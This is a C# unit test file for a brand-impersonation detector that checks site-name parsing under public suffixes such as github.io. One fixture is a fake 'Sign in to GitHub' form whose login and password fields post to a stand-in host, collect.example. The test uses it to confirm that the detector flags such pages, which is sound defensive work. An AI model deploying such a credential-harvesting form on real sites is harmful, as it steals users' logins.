using BrandWatch.Rules.Evidence;
using BrandWatch.Rules.Marks;
using BrandWatch.Rules.Pages;

namespace BrandWatch.Rules.Tests.Pages;

/// <summary>
/// A site hosted under a platform's public suffix (a project page on github.io) carries the platform's name in its
/// address for every site alike: only the labels before the suffix are the site's own name.
/// </summary>
public sealed class PlatformHostTests
{
    private static readonly PageAnalyzer Analyzer = new(
        PortfolioJson.Parse(File.ReadAllText(PageKit.SamplePath("pages", "marks.json")), "marks.json").Marks, PageAnalysisOptions.Default);

    [Theory]
    [InlineData("someone.github.io", "someone")]
    [InlineData("docs.someone.github.io", "docs.someone")]
    [InlineData("paypal-login.github.io", "paypal-login")]
    [InlineData("shop.example.co.uk", "shop.example")]
    [InlineData("github.io", "github.io")]
    [InlineData("192.0.2.7", "192.0.2.7")]
    [InlineData("localhost", "localhost")]
    public void SiteName_DropsThePublicSuffix(string host, string site)
    {
        Assert.Equal(site, BrandingFacts.SiteName(host));
    }

    [Fact]
    public void Analyze_TutorialAboutThePlatformOnItsOwnPagesHost_DoesNotPresentAsThePlatform()
    {
        const string body = "<h1>Git and GitHub Pages with a screen reader</h1><p>This workshop shows how to publish a site with GitHub Pages: create a repository, push, and turn Pages on in the settings.</p>";

        var findings = Analyzer.Analyze(PageKit.Page(body, title: "Git and GitHub Pages using JAWS"), new Uri("https://workshop-notes.github.io/github-pages.html"));

        Assert.DoesNotContain(findings, f => f.Mark == "github" && f.Criterion is Criteria.A10 or Criteria.A12 or Criteria.U1);
    }

    [Fact]
    public void Analyze_SignInImitationOnThePagesHost_StillPresentsAsTheMarkItsOwnLabelNames()
    {
        const string body = "<h1>Sign in to GitHub</h1><form method=\"post\" action=\"https://collect.example/in\"><input name=\"login\"><input type=\"password\" name=\"password\"><button>Sign in</button></form>";

        var findings = Analyzer.Analyze(PageKit.Page(body, title: "Sign in to GitHub"), new Uri("https://github-verify.github.io/login"));

        var finding = Assert.Single(findings, f => f.Criterion == Criteria.U1 && f.Mark == "github");
        Assert.Contains("host name", finding.Facts["presentsAs"], StringComparison.Ordinal);
    }
}
